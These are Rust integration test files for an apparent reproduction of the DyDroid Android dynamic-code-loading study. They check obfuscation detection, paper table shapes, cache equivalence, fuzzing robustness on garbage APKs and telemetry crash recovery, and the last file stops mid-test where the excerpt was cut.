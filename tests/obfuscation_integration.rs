//! Obfuscation-analysis integration (Table VI, Figure 3): the detectors'
//! verdicts must agree with the corpus ground truth.

use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec};

fn spec() -> CorpusSpec {
    CorpusSpec {
        scale: 0.015,
        seed: 321,
    }
}

#[test]
fn trap_entry_constants_agree_across_crates() {
    // The workload plants the trap; the decompiler trips over it. The
    // two crates must agree on the path.
    assert_eq!(
        dydroid_workload::factory::ANTI_REPACK_TRAP,
        dydroid_analysis::decompiler::ANTI_REPACK_TRAP
    );
}

#[test]
fn dex_encryption_detection_is_exact() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);

    for (app, record) in corpus.iter().zip(report.records()) {
        assert_eq!(
            record.obfuscation.dex_encryption, app.plan.packer,
            "dex-encryption verdict wrong for {}",
            app.plan.package
        );
    }
}

#[test]
fn anti_decompilation_detection_is_exact() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    for (app, record) in corpus.iter().zip(report.records()) {
        assert_eq!(
            record.obfuscation.anti_decompilation, app.plan.anti_decompilation,
            "anti-decompilation verdict wrong for {}",
            app.plan.package
        );
    }
}

#[test]
fn reflection_detection_is_exact_for_unpacked_apps() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    for (app, record) in corpus.iter().zip(report.records()) {
        if app.plan.packer || app.plan.anti_decompilation {
            continue; // their original code is hidden, by design
        }
        assert_eq!(
            record.obfuscation.reflection, app.plan.reflection,
            "reflection verdict wrong for {}",
            app.plan.package
        );
    }
}

#[test]
fn lexical_detection_high_accuracy() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let mut correct = 0usize;
    let mut total = 0usize;
    for (app, record) in corpus.iter().zip(report.records()) {
        if app.plan.packer || app.plan.anti_decompilation {
            continue;
        }
        total += 1;
        if record.obfuscation.lexical == app.plan.lexical {
            correct += 1;
        }
    }
    let accuracy = correct as f64 / total as f64;
    assert!(accuracy > 0.97, "lexical accuracy {accuracy}");
}

#[test]
fn table6_rates_match_paper_shape() {
    let corpus = generate(&CorpusSpec {
        scale: 0.05,
        seed: 99,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let t6 = report.table6();
    let rate = |n: usize| n as f64 / t6.total as f64;

    // Paper: lexical 89.95%, reflection 52.20%, native 23.40%,
    // DEX encryption 0.24%, anti-decompilation 0.09%.
    assert!(
        (rate(t6.lexical) - 0.8995).abs() < 0.03,
        "lexical {}",
        rate(t6.lexical)
    );
    assert!(
        (rate(t6.reflection) - 0.522).abs() < 0.04,
        "reflection {}",
        rate(t6.reflection)
    );
    assert!(
        (rate(t6.native) - 0.234).abs() < 0.05,
        "native {}",
        rate(t6.native)
    );
    assert!(rate(t6.dex_encryption) < 0.01);
    assert!(rate(t6.anti_decompilation) < 0.005);
    // Strict ordering, as in the paper.
    assert!(t6.lexical > t6.reflection);
    assert!(t6.reflection > t6.native);
    assert!(t6.native > t6.dex_encryption);
    assert!(t6.dex_encryption > t6.anti_decompilation);
}

#[test]
fn figure3_dominated_by_entertainment_tools_shopping() {
    let corpus = generate(&CorpusSpec {
        scale: 0.1,
        seed: 42,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let fig = report.figure3();
    assert!(!fig.counts.is_empty());
    let total: usize = fig.counts.iter().map(|(_, n)| n).sum();
    let big3: usize = fig
        .counts
        .iter()
        .filter(|(c, _)| c == "Entertainment" || c == "Tools" || c == "Shopping")
        .map(|(_, n)| n)
        .sum();
    assert!(
        big3 * 2 > total,
        "Entertainment/Tools/Shopping must dominate: {big3}/{total}"
    );
}

#[test]
fn packed_apps_survive_dynamic_analysis_and_are_intercepted() {
    // The packer hides the code statically, but DyDroid still intercepts
    // the decrypted payload at load time — the paper's core argument for
    // hybrid analysis.
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let packed: Vec<_> = corpus.iter().filter(|a| a.plan.packer).collect();
    assert!(!packed.is_empty());
    for app in packed {
        let record = pipeline.analyze_app(app);
        assert!(record.obfuscation.dex_encryption);
        assert!(
            record.dex_intercepted(),
            "decrypted payload of {} must be intercepted",
            app.plan.package
        );
        // The intercepted dex parses: DyDroid recovered the hidden code.
        let dynamic = record.dynamic.expect("packer apps run");
        assert!(!dynamic.dex_events.is_empty());
    }
}
