//! Whole-pipeline integration: a small corpus flows through decompile →
//! filter → dynamic → static analysis, and the aggregate tables satisfy
//! the structural invariants of the paper's Table II.

use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec};

fn spec() -> CorpusSpec {
    CorpusSpec {
        scale: 0.008, // ~470 apps
        seed: 2024,
    }
}

#[test]
fn table2_invariants_hold() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let t2 = report.table2();

    for col in [t2.dex, t2.native] {
        assert_eq!(
            col.failure() + col.exercised,
            col.total,
            "failure + exercised must equal the population"
        );
        assert!(col.intercepted <= col.exercised);
        assert!(col.exercised > 0);
        assert!(col.intercepted > 0);
    }
    // Interception rates must be in the paper's neighbourhood (41% / 54%).
    let dex_rate = t2.dex.intercepted as f64 / t2.dex.total as f64;
    let native_rate = t2.native.intercepted as f64 / t2.native.total as f64;
    assert!((0.30..0.55).contains(&dex_rate), "dex rate {dex_rate}");
    assert!(
        (0.40..0.70).contains(&native_rate),
        "native rate {native_rate}"
    );
    assert!(native_rate > dex_rate, "native DCL executes more often");
}

#[test]
fn report_is_deterministic() {
    let corpus = generate(&spec());
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        workers: 4,
        ..Default::default()
    });
    let a = pipeline.run(&corpus);
    let b = pipeline.run(&corpus);
    assert_eq!(a.table2(), b.table2());
    assert_eq!(a.table4(), b.table4());
    assert_eq!(a.table5(), b.table5());
    assert_eq!(a.table6(), b.table6());
    assert_eq!(a.table7(), b.table7());
    assert_eq!(a.table9(), b.table9());
    assert_eq!(a.table10(), b.table10());
}

#[test]
fn popularity_ordering_matches_table3() {
    let corpus = generate(&CorpusSpec {
        scale: 0.02,
        seed: 7,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let t3 = report.table3();
    // The paper's qualitative finding: DCL apps are more popular.
    assert!(t3.dex.mean_downloads > t3.without_dex.mean_downloads);
    assert!(t3.native.mean_downloads > t3.without_native.mean_downloads);
    assert!(t3.dex.mean_rating > t3.without_dex.mean_rating);
    // Native apps dominate dramatically (paper: ~3.8×).
    assert!(t3.native.mean_downloads > 2.0 * t3.without_native.mean_downloads);
}

#[test]
fn entity_distribution_matches_table4() {
    let corpus = generate(&CorpusSpec {
        scale: 0.02,
        seed: 7,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let t4 = report.table4();
    // Third-party dominates both rows (paper: 99.92% / 86.08%).
    assert!(t4.dex.third_party as f64 / t4.dex.total as f64 > 0.9);
    assert!(t4.native.third_party as f64 / t4.native.total as f64 > 0.7);
    // Native own-loading is a real minority, bigger than DEX's.
    let dex_own = t4.dex.own as f64 / t4.dex.total as f64;
    let native_own = t4.native.own as f64 / t4.native.total as f64;
    assert!(
        native_own > dex_own,
        "native own {native_own} vs dex {dex_own}"
    );
}

#[test]
fn render_all_mentions_every_table() {
    let corpus = generate(&CorpusSpec {
        scale: 0.004,
        seed: 1,
    });
    let pipeline = Pipeline::new(PipelineConfig::default());
    let report = pipeline.run(&corpus);
    let text = report.render_all();
    for needle in [
        "TABLE II",
        "TABLE III",
        "TABLE IV",
        "TABLE V",
        "TABLE VI",
        "FIGURE 3",
        "TABLE VII",
        "TABLE VIII",
        "TABLE IX",
        "TABLE X",
    ] {
        assert!(text.contains(needle), "missing {needle}");
    }
}

#[test]
fn pipeline_survives_garbage_and_hostile_apks() {
    use dydroid_workload::{AppPlan, SyntheticApp};

    // A corpus laced with broken inputs: garbage bytes, a truncated APK,
    // and an APK whose classes.dex is corrupted.
    let good = generate(&CorpusSpec {
        scale: 0.001,
        seed: 3,
    });
    let mut truncated = good[0].apk.clone();
    truncated.truncate(truncated.len() / 2);
    let mut corrupted = good[1].apk.clone();
    let mid = corrupted.len() / 2;
    corrupted[mid] ^= 0xFF;

    let hostile = |name: &str, bytes: Vec<u8>| SyntheticApp {
        plan: AppPlan::external(name),
        apk: bytes,
        remote_resources: Vec::new(),
        device_files: Vec::new(),
    };
    let mut corpus = good;
    corpus.push(hostile("garbage.one", b"not an apk at all".to_vec()));
    corpus.push(hostile("garbage.two", truncated));
    corpus.push(hostile("garbage.three", corrupted));

    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    assert_eq!(report.records().len(), corpus.len());
    // The hostile entries are recorded as undecompilable, nothing panics.
    let broken = report.records().iter().filter(|r| !r.decompiled).count();
    assert!(broken >= 3, "hostile inputs must be recorded, got {broken}");
}

#[test]
fn worker_count_does_not_change_results() {
    let corpus = generate(&CorpusSpec {
        scale: 0.002,
        seed: 8,
    });
    let run = |workers: usize| {
        Pipeline::new(PipelineConfig {
            workers,
            environment_reruns: false,
            ..Default::default()
        })
        .run(&corpus)
    };
    let solo = run(1);
    let parallel = run(8);
    assert_eq!(solo.table2(), parallel.table2());
    assert_eq!(solo.table6(), parallel.table6());
    assert_eq!(solo.table10(), parallel.table10());
}

#[test]
fn rates_stable_across_corpus_seeds() {
    // The measured rates are properties of the population, not of one
    // seed: two disjoint corpora must agree within tolerance.
    let rate = |seed: u64| {
        let corpus = generate(&CorpusSpec { scale: 0.02, seed });
        let report = Pipeline::new(PipelineConfig {
            environment_reruns: false,
            ..Default::default()
        })
        .run(&corpus);
        let t2 = report.table2();
        let t6 = report.table6();
        (
            t2.dex.intercepted as f64 / t2.dex.total as f64,
            t6.lexical as f64 / t6.total as f64,
        )
    };
    let (dex_a, lex_a) = rate(1111);
    let (dex_b, lex_b) = rate(2222);
    assert!((dex_a - dex_b).abs() < 0.08, "{dex_a} vs {dex_b}");
    assert!((lex_a - lex_b).abs() < 0.04, "{lex_a} vs {lex_b}");
}

#[test]
fn analyze_apk_entry_point_works_standalone() {
    let corpus = generate(&CorpusSpec {
        scale: 0.002,
        seed: 12,
    });
    let pipeline = Pipeline::new(PipelineConfig::default());
    let app = corpus.iter().find(|a| a.plan.google_ads).expect("ad app");
    let record = pipeline
        .analyze_apk(
            app.apk.clone(),
            app.remote_resources.clone(),
            app.device_files.clone(),
        )
        .expect("valid apk");
    assert_eq!(record.package, app.plan.package);
    assert!(record.dex_intercepted());
    // Garbage is an error, not a panic.
    assert!(pipeline
        .analyze_apk(b"junk".to_vec(), vec![], vec![])
        .is_err());
}
