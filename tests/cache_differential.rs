//! Differential tests for the content-addressed analysis cache, the
//! parallel environment re-runs, and the indexed signature matcher: the
//! optimizations must not change a single measured byte, and the cache
//! must analyse each unique intercepted binary exactly once.

use dydroid::environment::{rerun_all, rerun_all_serial};
use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec};

/// ~235 apps with every archetype represented, including malware, so the
/// Table VIII environment re-runs actually trigger.
fn tiny_corpus() -> Vec<dydroid_workload::SyntheticApp> {
    generate(&CorpusSpec {
        scale: 0.004,
        seed: 99,
    })
}

fn cached_config() -> PipelineConfig {
    PipelineConfig::default()
}

fn uncached_serial_config() -> PipelineConfig {
    PipelineConfig {
        analysis_cache: false,
        serial_env_reruns: true,
        ..PipelineConfig::default()
    }
}

/// The tentpole invariant: with the cache on (and parallel re-runs) the
/// report JSON is byte-identical to the uncached serial sweep.
#[test]
fn cached_sweep_report_is_byte_identical_to_uncached() {
    let corpus = tiny_corpus();

    let cached = Pipeline::new(cached_config()).run(&corpus);
    let uncached = Pipeline::new(uncached_serial_config()).run(&corpus);

    let cached_json = serde_json::to_string(&cached).expect("serialise cached report");
    let uncached_json = serde_json::to_string(&uncached).expect("serialise uncached report");
    assert!(
        !cached_json.is_empty(),
        "report serialisation must not be empty"
    );
    assert_eq!(
        cached_json, uncached_json,
        "cache + parallel re-runs changed the measured results"
    );
}

/// The indexed matcher invariant: routing detection through the
/// inverted block index (the default) yields a report byte-identical to
/// the naive quadratic scan, at the paper's 90% match threshold where
/// near-boundary variant scores decide verdicts.
#[test]
fn indexed_detector_report_is_byte_identical_to_naive() {
    let corpus = tiny_corpus();

    let indexed_pipeline = Pipeline::new(cached_config());
    let indexed = indexed_pipeline.run(&corpus);
    let naive_pipeline = Pipeline::new(PipelineConfig {
        naive_detector: true,
        ..PipelineConfig::default()
    });
    let naive = naive_pipeline.run(&corpus);

    let indexed_json = serde_json::to_string(&indexed).expect("serialise indexed report");
    let naive_json = serde_json::to_string(&naive).expect("serialise naive report");
    assert_eq!(
        indexed_json, naive_json,
        "indexed signature matching changed the measured results"
    );

    // The index actually ran (and pruned) on the default path, while the
    // naive path considered every sample and pruned nothing.
    let istats = indexed_pipeline.detector_stats();
    let nstats = naive_pipeline.detector_stats();
    assert!(istats.candidates > 0, "indexed path saw no candidates");
    assert!(
        istats.fully_scored <= istats.candidates,
        "scored candidates cannot exceed generated ones"
    );
    assert_eq!(nstats.pruned, 0, "naive scan must not prune");
    assert!(
        nstats.candidates >= istats.candidates,
        "the index must not consider more samples than the naive scan"
    );
}

/// Exactly-once: every cache miss is a distinct binary, every signature
/// build corresponds to one miss, and re-sweeping the same corpus on the
/// same pipeline performs zero additional analyses.
#[test]
fn cache_analyzes_each_unique_binary_exactly_once() {
    let corpus = tiny_corpus();
    let pipeline = Pipeline::new(cached_config());

    let _ = pipeline.run(&corpus);
    let first = pipeline.cache_stats();
    assert!(first.misses > 0, "corpus must intercept some binaries");
    assert!(first.hits > 0, "corpus must contain duplicate binaries");
    assert_eq!(
        first.misses, first.entries,
        "every miss must create exactly one cache entry"
    );
    assert_eq!(
        first.sig_builds, first.misses,
        "one BinarySig::build per unique binary"
    );
    assert!(
        first.taint_runs <= first.misses,
        "taint runs only on the dex subset of unique binaries"
    );

    // Second sweep over the same corpus: all lookups must hit.
    let _ = pipeline.run(&corpus);
    let second = pipeline.cache_stats();
    assert_eq!(
        second.sig_builds, first.sig_builds,
        "re-sweep must not rebuild any signature"
    );
    assert_eq!(
        second.taint_runs, first.taint_runs,
        "re-sweep must not re-run taint analysis"
    );
    assert_eq!(second.misses, first.misses, "re-sweep must not miss");
    assert!(second.hits > first.hits, "re-sweep lookups must all hit");
    assert_eq!(second.entries, first.entries);
}

/// The disabled cache recomputes every lookup and stores nothing.
#[test]
fn disabled_cache_recomputes_every_lookup() {
    let corpus = tiny_corpus();
    let pipeline = Pipeline::new(uncached_serial_config());

    let _ = pipeline.run(&corpus);
    let stats = pipeline.cache_stats();
    assert_eq!(stats.hits, 0, "disabled cache must never hit");
    assert_eq!(stats.entries, 0, "disabled cache must store nothing");
    assert_eq!(
        stats.sig_builds, stats.misses,
        "disabled cache still builds one signature per lookup"
    );
}

/// Parallel (app × config) environment re-runs produce the same Table
/// VIII counts as the serial decompile-per-config reference path.
#[test]
fn parallel_env_reruns_match_serial_counts() {
    let corpus = tiny_corpus();
    // Sweep once without re-runs to obtain the flagged records.
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..PipelineConfig::default()
    });
    let report = pipeline.run(&corpus);
    let records = report.records();

    let parallel = rerun_all(&pipeline, &corpus, records);
    let serial = rerun_all_serial(&pipeline, &corpus, records);
    assert!(
        parallel.counts.total_files > 0,
        "fixed-seed corpus must flag some malware for the re-runs"
    );
    assert_eq!(
        parallel, serial,
        "parallel re-run outcomes (counts and per-file loads) diverge from serial"
    );
}
