//! Robustness properties of the analysis pipeline: no input — garbage,
//! truncated, or bit-flipped — may panic the analyzer, and panics that do
//! fire inside the isolation boundary must surface as
//! `DynamicStatus::AnalysisFailure` records, not as dead workers.

use std::sync::OnceLock;

use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::faults::build_panic_apk;
use dydroid_workload::{generate, AppPlan, CorpusSpec, SyntheticApp};
use proptest::prelude::*;

fn pipeline() -> &'static Pipeline {
    static PIPELINE: OnceLock<Pipeline> = OnceLock::new();
    PIPELINE.get_or_init(|| {
        Pipeline::new(PipelineConfig {
            environment_reruns: false,
            ..Default::default()
        })
    })
}

/// One well-formed APK from the corpus generator, as corruption fodder.
fn sample_apk() -> &'static [u8] {
    static APK: OnceLock<Vec<u8>> = OnceLock::new();
    APK.get_or_init(|| {
        let corpus = generate(&CorpusSpec {
            scale: 0.001,
            seed: 3,
        });
        corpus
            .into_iter()
            .map(|a| a.apk)
            .find(|apk| apk.len() > 64)
            .expect("corpus yields a non-trivial apk")
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn analyze_apk_never_panics_on_garbage(
        data in prop::collection::vec(any::<u8>(), 0..512),
    ) {
        // Ok or Err are both acceptable; a panic fails the test.
        let _ = pipeline().analyze_apk(data, Vec::new(), Vec::new());
    }

    #[test]
    fn analyze_apk_never_panics_on_truncations(at in any::<prop::sample::Index>()) {
        let apk = sample_apk();
        let cut = at.index(apk.len());
        let _ = pipeline().analyze_apk(apk[..cut].to_vec(), Vec::new(), Vec::new());
    }

    #[test]
    fn analyze_apk_never_panics_on_bitflips(
        at in any::<prop::sample::Index>(),
        xor in 1u8..=255,
    ) {
        let mut apk = sample_apk().to_vec();
        let idx = at.index(apk.len());
        apk[idx] ^= xor;
        let _ = pipeline().analyze_apk(apk, Vec::new(), Vec::new());
    }
}

#[test]
fn caught_panic_becomes_analysis_failure_with_the_message() {
    let package = "com.fault.panics".to_string();
    let app = SyntheticApp {
        plan: AppPlan::external(package.clone()),
        apk: build_panic_apk(&package),
        remote_resources: Vec::new(),
        device_files: Vec::new(),
    };
    let record = pipeline().analyze_app_resilient(&app);
    let reason = record
        .harness_failure()
        .expect("panic must be recorded as a harness failure");
    assert!(
        reason.contains("injected harness fault"),
        "reason should carry the panic message, got: {reason}"
    );
    // Retries were exhausted before giving up.
    assert!(
        reason.contains("attempt 2/2"),
        "final record should come from the last attempt, got: {reason}"
    );
    // The static phases were still recorded.
    assert!(record.decompiled);
    assert!(record.filter.has_dex_dcl);
}
