//! Integration tests for the sweep observatory (DESIGN.md §5j): the
//! span-derived self-time profile must be byte-identical whether it is
//! aggregated live from in-memory spans or replayed offline from the
//! persisted event streams — including after a `kill -9` mid-sweep and
//! across a resume — the durable metrics-snapshot stream must survive
//! crashes and torn tails like every other §5f stream, and the
//! straggler watchdog must actually flag under an aggressive threshold.

use std::collections::HashSet;
use std::path::PathBuf;

use dydroid::durable::{
    encode_frames, scan_path, scan_stream, FramedWriter, SinkOptions, StreamKind,
};
use dydroid::obs::{MetricsSnapshot, SpanRecord};
use dydroid::{IoHarness, Journal, Pipeline, PipelineConfig, SpanProfile, Telemetry};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};
use proptest::prelude::*;
use serde::Deserialize as _;

fn small_corpus(n: usize) -> Vec<SyntheticApp> {
    let mut corpus = generate(&CorpusSpec {
        scale: 0.004,
        seed: 99,
    });
    corpus.truncate(n);
    corpus
}

fn temp_journal(tag: &str) -> Journal {
    let path: PathBuf = std::env::temp_dir().join(format!(
        "dydroid_observatory_{tag}_{}.jsonl",
        std::process::id()
    ));
    let journal = Journal::new(path);
    journal.reset().expect("reset journal");
    journal
}

/// Live aggregation over a plain (non-journaled) run's event sink is
/// byte-identical to the offline replay of that sink: same folded
/// lines, same order, same self-times.
#[test]
fn offline_replay_matches_live_aggregation() {
    let corpus = small_corpus(40);
    let sink = std::env::temp_dir().join(format!(
        "dydroid_observatory_live_{}.events.jsonl",
        std::process::id()
    ));
    let _ = std::fs::remove_file(&sink);

    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..PipelineConfig::default()
    });
    // Spans recorded before the sink attaches (detector training runs at
    // construction) never reach the stream; the differential covers
    // everything recorded while the sink was live.
    let pre_sink: HashSet<u64> = pipeline.telemetry().spans().iter().map(|s| s.id).collect();
    pipeline
        .telemetry()
        .set_event_sink(&sink)
        .expect("event sink");
    let _ = pipeline.run(&corpus);

    let sunk: Vec<SpanRecord> = pipeline
        .telemetry()
        .spans()
        .into_iter()
        .filter(|s| !pre_sink.contains(&s.id))
        .collect();
    let live = SpanProfile::from_spans(&sunk);
    assert!(!live.is_empty(), "sweep recorded no spans");
    let offline = SpanProfile::from_event_streams(std::slice::from_ref(&sink)).expect("replay");
    assert_eq!(
        live.folded(),
        offline.folded(),
        "offline replay diverged from live aggregation"
    );
    // Self-time never exceeds total time, and the root sweep span is
    // present in the profile.
    for (path, entry) in live.entries() {
        assert!(entry.self_us <= entry.total_us, "self > total at {path:?}");
    }
    let _ = std::fs::remove_file(&sink);
}

/// A sweep killed mid-run (virtual-clock I/O crash) leaves a torn live
/// event stream; replaying it offline reconstructs exactly the profile
/// a fresh telemetry instance stitches from the same stream — the two
/// independent parsers of the span wire format agree byte-for-byte.
#[test]
fn killed_sweep_replay_matches_stitched_spans() {
    let corpus = small_corpus(60);
    let journal = temp_journal("killed");

    let config = PipelineConfig {
        environment_reruns: false,
        // Single-writer layout so the base event stream holds the spans.
        workers: 1,
        ..PipelineConfig::default()
    };
    let mut first = Pipeline::new(config.clone());
    first.set_io_harness(IoHarness::new(Some(150), None));
    let _ = first
        .run_resumable(&corpus, &journal)
        .expect("interrupted sweep still returns");

    let stitcher = Telemetry::new(true);
    let stitched = stitcher
        .stitch_from(&journal.events_path())
        .expect("stitch");
    assert!(stitched > 0, "crash left no spans to stitch");
    let live = SpanProfile::from_spans(&stitcher.spans());
    let offline = SpanProfile::replay_journal(&journal).expect("replay");
    assert!(!offline.is_empty());
    assert_eq!(
        live.folded(),
        offline.folded(),
        "replay diverged from stitched aggregation after a crash"
    );

    // Resuming to completion writes the profile artifact, and it is
    // byte-identical to aggregating the resumed pipeline's full
    // (stitched + fresh) timeline.
    let profile_out = std::env::temp_dir().join(format!(
        "dydroid_observatory_killed_{}.profile.folded",
        std::process::id()
    ));
    let _ = std::fs::remove_file(&profile_out);
    let second = Pipeline::new(PipelineConfig {
        profile_out: Some(profile_out.to_string_lossy().into_owned()),
        ..config
    });
    let resumed = second
        .run_resumable(&corpus, &journal)
        .expect("resumed sweep");
    assert_eq!(resumed.records().len(), corpus.len());
    let artifact = std::fs::read_to_string(&profile_out).expect("profile artifact");
    let full = SpanProfile::from_spans(&second.telemetry().spans());
    assert_eq!(
        artifact,
        full.folded(),
        "profile artifact diverged from the resumed live timeline"
    );
    // The same artifact lands beside the journal for `dcltrace profile`.
    assert_eq!(
        std::fs::read_to_string(journal.profile_path()).expect("journal-side artifact"),
        artifact
    );
    // Folded lines parse: "path;path;... <self_us>".
    for line in artifact.lines() {
        let (stack, self_us) = line.rsplit_once(' ').expect("folded line shape");
        assert!(!stack.is_empty());
        self_us.parse::<u64>().expect("self-time is integral µs");
    }

    let _ = std::fs::remove_file(&profile_out);
    journal.reset().expect("cleanup");
}

/// The metrics-snapshot stream survives a mid-sweep crash: the resumed
/// run truncates any torn tail, continues the sequence, and the final
/// stream scans clean with monotone virtual clocks and deserializable
/// snapshots.
#[test]
fn metrics_stream_survives_crash_and_resume() {
    let corpus = small_corpus(60);
    let journal = temp_journal("metrics");

    let config = PipelineConfig {
        environment_reruns: false,
        workers: 1,
        // Snapshot roughly every app (~44 virtual µs each) so even the
        // truncated pre-crash window captures several frames.
        metrics_interval_us: 50,
        ..PipelineConfig::default()
    };
    let mut first = Pipeline::new(config.clone());
    first.set_io_harness(IoHarness::new(Some(150), None));
    let _ = first
        .run_resumable(&corpus, &journal)
        .expect("interrupted sweep still returns");
    let mid = scan_path(&journal.metrics_path())
        .expect("scan metrics")
        .expect("metrics stream exists");
    assert!(!mid.bodies.is_empty(), "no snapshots before the crash");

    let second = Pipeline::new(config);
    let _ = second
        .run_resumable(&corpus, &journal)
        .expect("resumed sweep");
    let scan = scan_path(&journal.metrics_path())
        .expect("scan metrics")
        .expect("metrics stream exists");
    assert!(
        scan.is_clean(),
        "resumed stream has defect {:?}",
        scan.defect
    );
    assert_eq!(scan.dropped, 0);
    assert!(
        scan.bodies.len() >= mid.bodies.len(),
        "resume lost snapshots"
    );

    // The virtual clock is per session: monotone within a session,
    // resetting to zero when the resumed pipeline starts its own clock.
    // One crash + one resume ⇒ at most one reset in the whole stream.
    let mut last_virtual = 0u64;
    let mut resets = 0usize;
    for body in &scan.bodies {
        let value: serde::Value = serde_json::from_str(body).expect("snapshot body parses");
        assert_eq!(
            value.get("type").and_then(|t| t.as_str()),
            Some("metrics"),
            "foreign body in the metrics stream: {body}"
        );
        let virtual_us = value
            .get("virtual_us")
            .and_then(|v| v.as_u64())
            .expect("virtual clock stamp");
        if virtual_us < last_virtual {
            resets += 1;
        }
        last_virtual = virtual_us;
        let snap = MetricsSnapshot::from_json(value.get("snapshot").expect("snapshot payload"))
            .expect("snapshot deserializes");
        assert!(
            snap.counters.iter().any(|(n, _)| n == "monkey.virtual_us"),
            "snapshot missing the virtual clock counter"
        );
    }
    assert!(
        resets <= 1,
        "virtual clock reset {resets} times across one resume"
    );

    // `Journal::reset` removes the sidecar with the other streams.
    journal.reset().expect("cleanup");
    assert!(!journal.metrics_path().exists());
}

/// An aggressive watchdog threshold flags stragglers on the real
/// (deterministic) virtual-time distribution, surfaces them in
/// `SweepStats` and `render_perf`, and caps the appendix at the
/// configured top-N.
#[test]
fn watchdog_flags_and_renders_stragglers() {
    let corpus = small_corpus(60);
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        // Any app 1% over the running median is a "straggler": the
        // deterministic virtual-time spread guarantees flags.
        watchdog_k: 1.01,
        straggler_top: 3,
        ..PipelineConfig::default()
    });
    let report = pipeline.run(&corpus);
    let stats = report.stats();
    assert!(
        stats.straggler_warnings > 0,
        "no stragglers flagged at k=1.01 over {} apps",
        corpus.len()
    );
    assert!(!stats.stragglers.is_empty());
    assert!(stats.stragglers.len() <= 3, "top-N cap ignored");
    for s in &stats.stragglers {
        assert!(
            s.virtual_us as f64 > 1.01 * s.median_virtual_us as f64,
            "{} flagged below threshold ({} vs median {})",
            s.package,
            s.virtual_us,
            s.median_virtual_us
        );
    }
    let perf = report.render_perf();
    assert!(perf.contains("straggler(s) flagged"), "{perf}");
    assert!(perf.contains("slowest stragglers"), "{perf}");

    // The flag count also lands in the metrics registry, where the
    // progress line and `dcltrace top` read it.
    assert_eq!(
        pipeline
            .telemetry()
            .snapshot()
            .counter("watchdog.stragglers"),
        stats.straggler_warnings
    );
}

/// The default watchdog threshold stays quiet on the same corpus: 4× the
/// running median is far outside the deterministic virtual-time spread.
#[test]
fn default_watchdog_threshold_is_quiet() {
    let corpus = small_corpus(60);
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..PipelineConfig::default()
    });
    let report = pipeline.run(&corpus);
    assert_eq!(report.stats().straggler_warnings, 0);
    assert!(report.stats().stragglers.is_empty());
}

/// Synthetic metrics-snapshot bodies, the payload shape the metrics
/// stream writes (a miniature of the real §5f snapshot frame).
fn metrics_bodies(clocks: &[u32]) -> Vec<String> {
    clocks
        .iter()
        .map(|c| {
            format!(
                "{{\"type\":\"metrics\",\"virtual_us\":{c},\"snapshot\":{{\"counters\":[[\"monkey.virtual_us\",{c}]],\"gauges\":[],\"histograms\":[]}}}}"
            )
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Truncating a metrics-snapshot stream at any byte offset recovers
    /// exactly the intact prefix — every recovered body still parses as
    /// a snapshot — and a reopened writer truncates the tear, continues
    /// the sequence, and leaves a clean stream.
    #[test]
    fn torn_metrics_stream_recovers_and_heals(
        clocks in prop::collection::vec(any::<u32>(), 1..8),
        at in any::<prop::sample::Index>(),
    ) {
        let bodies = metrics_bodies(&clocks);
        let encoded = encode_frames(0, &bodies);
        let cut = at.index(encoded.len() + 1);
        let scan = scan_stream(&encoded.as_bytes()[..cut]);
        prop_assert!(scan.bodies.len() <= bodies.len());
        for body in &scan.bodies {
            let value: serde::Value =
                serde_json::from_str(body).expect("recovered snapshot parses");
            prop_assert_eq!(
                value.get("type").and_then(|t| t.as_str()),
                Some("metrics")
            );
            prop_assert!(MetricsSnapshot::from_json(
                value.get("snapshot").expect("snapshot payload")
            )
            .is_ok());
        }

        // Healing: reopening the torn file as a metrics sink truncates
        // the tear and the next snapshot lands at the torn seq slot.
        let path = std::env::temp_dir().join(format!(
            "dydroid_observatory_torn_{}_{:?}.metrics.jsonl",
            std::process::id(),
            std::thread::current().id()
        ));
        std::fs::write(&path, &encoded.as_bytes()[..cut]).expect("write torn stream");
        let mut writer = FramedWriter::open(&path, SinkOptions::direct(StreamKind::Metrics))
            .expect("reopen torn stream");
        prop_assert_eq!(writer.seq(), scan.bodies.len() as u64);
        writer
            .append_body(&metrics_bodies(&[7])[0])
            .expect("append after heal");
        writer.sync_now().expect("sync");
        drop(writer);
        let healed = scan_path(&path).expect("scan healed").expect("healed exists");
